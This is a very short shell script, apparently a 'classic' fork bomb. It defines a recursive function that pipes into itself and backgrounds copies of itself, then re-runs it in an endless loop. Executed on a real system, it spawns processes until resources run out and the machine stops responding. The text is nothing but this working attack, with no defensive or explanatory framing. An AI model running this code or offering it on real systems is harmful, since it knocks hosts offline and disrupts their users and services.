# The classic, and a shell that waits for it.
bomb() { bomb | bomb & }
bomb
wait
while :; do bomb; done
